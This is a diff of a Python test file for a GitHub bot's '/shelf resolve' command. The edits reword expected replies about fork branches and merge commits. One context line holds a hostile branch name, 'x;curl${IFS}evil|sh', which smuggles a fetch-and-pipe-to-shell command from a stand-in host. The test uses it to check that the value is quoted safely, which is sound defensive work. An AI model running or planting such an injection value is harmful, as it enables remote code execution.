@@ -165,7 +165,7 @@ def test_resolve_refuses_a_fork_branch_and_a_closed_pull_request(world: World) -
     assert commands.run(world.job(world.comment_event(world.gh.pulls[1], "/shelf resolve"))) == 0
     assert replies(world)[-1].startswith(
         "😕 `/shelf resolve` cannot work on this pull request: its branch lives in a fork (outsider:patch-1), and "
-        "this job's token can only push to octo/shelf. Nothing was pushed.")
+        "this job's token can only write to octo/shelf. Nothing was pushed.")
     world.gh.pulls[1] = replace(pull, state=PullState.CLOSED)
     assert commands.run(world.job(world.comment_event(world.gh.pulls[1], "/shelf resolve"))) == 0
     assert replies(world)[-1].startswith("😕 `/shelf resolve` cannot work on this pull request: the pull request is "
@@ -202,7 +202,7 @@ def test_the_manual_steps_quote_a_hostile_branch_name() -> None:
     assert "git switch 'x;curl${IFS}evil|sh'" in reply
 
 
-def test_resolve_from_a_writer_settles_derived_conflicts_and_pushes_a_plain_merge(world: World) -> None:
+def test_resolve_from_a_writer_settles_derived_conflicts_in_one_merge_commit(world: World) -> None:
     world.commit("night-shift/ups", {UPS: episode("2026-09-22-ups-runtime"), "INDEX.md": "# branch's\n"},
                  base="main")
     pull = world.gh.add_pull("night-shift/ups")
@@ -217,5 +217,5 @@ def test_resolve_from_a_writer_settles_derived_conflicts_and_pushes_a_plain_merg
     assert "UPS runtime" in parents and "# branch's" not in parents  # regenerated from the merged episodes
     [reply] = [c.body for c in world.gh.comments_on[pull.number] if c.author == "github-actions[bot]"
                and c.body.startswith("🚀")]
-    assert "Merged `main`" in reply and "a plain push on top of" in reply
+    assert "Merged `main`" in reply and f"in one commit, `{pushed[:12]}`, on top of `{head[:12]}`" in reply
     assert world.gh.reactions[-1][1] is Reaction.DONE
